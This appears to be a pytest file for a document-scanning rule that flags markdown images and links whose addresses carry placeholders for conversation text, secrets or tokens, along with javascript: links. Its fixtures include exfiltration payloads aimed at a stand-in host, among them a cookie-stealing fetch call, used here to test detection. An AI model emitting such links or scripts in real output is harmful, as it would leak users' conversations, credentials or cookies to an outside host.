"""Pictures and links with a place for data in their address are told, and scripts; addresses of documentation are not."""

import pytest

from checkfirst import check_documents
from checkfirst.config import Config


def told(text: str, name: str = "note.md") -> list[tuple[str, str]]:
    report = check_documents([(name, text)], config=Config(select=("SAF004",)))
    assert not report.failures
    return [(f.code, f.severity.value) for f in report.findings]


@pytest.mark.parametrize(
    "picture",
    [
        "![Plan](https://quay.invalid/p.png?data={{conversation}})",
        "![](https://quay.invalid/p.png?size=1&q=${SECRET_NOTES})",
        "![Karte](https://quay.invalid/k.png?verlauf=[GESPRÄCH])",
        "![plano](//quay.invalid/p.gif?q=%7B%7Bcontraseña%7D%7D)",
        "![x](https://quay.invalid/p.png?d=base64 of the conversation)",
        "![x](https://quay.invalid/p.png?token=<secret>)",
        "![x](https://quay.invalid/p.png?chat=%s)",
        "![x][plan]\n\n[plan]: https://quay.invalid/p.png?memory={memory}",
        '<img src="https://quay.invalid/p.png?history={{x}}">',
    ],
)
def test_a_picture_that_waits_for_data(picture: str) -> None:
    assert told(f"# Berths\n\nThe plan of today:\n\n{picture}\n") == [("SAF004", "warning")]


@pytest.mark.parametrize(
    "link",
    [
        "[the plan](https://quay.invalid/plan?conversation={{all}})",
        "[hier](https://quay.invalid/?passwort=[PASSWORT])",
        "![x](https://quay.invalid/p.png?data=)",
        "[page](data:text/html;base64,PGI+PC9iPg==)",
    ],
)
def test_others_are_a_note(link: str) -> None:
    assert told(f"# Berths\n\nThe plan of today: {link}\n") == [("SAF004", "note")]


@pytest.mark.parametrize("call", ["window.show_consent('tool');", "Menu.toggle()", "__doPostBack('Pager','2')"])
def test_a_call_of_the_page_that_was_saved_is_a_note(call: str) -> None:
    assert told(f"# Berths\n\nSee [your choices](javascript:{call}).\n") == [("SAF004", "note")]


@pytest.mark.parametrize(
    "target",
    [
        "javascript:window.fetch('//quay.invalid/')",
        "javascript:alert(1)",
        "JavaScript:fetch('//quay.invalid/'+document.cookie)",
        "javascript:eval(x)",
    ],
)
def test_a_script(target: str) -> None:
    assert told(f"# Berths\n\nSee [the plan](<{target}>).\n") == [("SAF004", "warning")]
    assert told(f"# Berths\n\nKeep this bookmarklet: [the plan](<{target}>).\n") == [("SAF004", "note")]
    assert told(f'<html><body><p>See <a href="{target}">the plan</a>.</p></body></html>', "note.html") == []
    counted = '<img src="https://quay.invalid/p.png?session={{session}}">'
    assert told(f"<html><body><p>The plan.</p>{counted}</body></html>", "note.html") == []


@pytest.mark.parametrize(
    "text",
    [
        "`![x](https://quay.invalid/p.png?data={{conversation}})`",
        "```text\n![x](https://quay.invalid/p.png?data={{conversation}})\n```",
        "[https://quay.invalid/v1?api_key={{token}}](https://quay.invalid/v1?api_key={{token}})",
        "![x](https://quay.invalid/chart?c={type:'bar',data:{labels:['May','June'],datasets:[{data:[3,4]}]}})",
        "![build](https://ci.invalid/badge.svg?token={{token}}&branch={{ branch }})",
        "![x](https://quay.invalid/p.png?theme={{ site.theme.data }})",
        "![x](https://quay.invalid/p.png?api_key=YOUR_API_KEY)",
        "![x](plan.png?data={{conversation}})",
        "[top](javascript:void(0)) and [back](javascript:history.back())",
        "[share](https://quay.invalid/share?text={{title}}&url={{url}})",
    ],
)
def test_what_carries_nothing(text: str) -> None:
    assert told(f"# Berths\n\nThe plan of today:\n\n{text}\n") == []


def test_a_form_that_a_program_fills_is_a_note() -> None:
    form = "Dear {{ name }}, your berth {{ berth }} is free from {{ day }}."
    picture = "![](https://quay.invalid/seen.png?token={{ token }})"
    assert told(f"# Mail\n\n{form}\n\n{picture}\n") == [("SAF004", "note")]
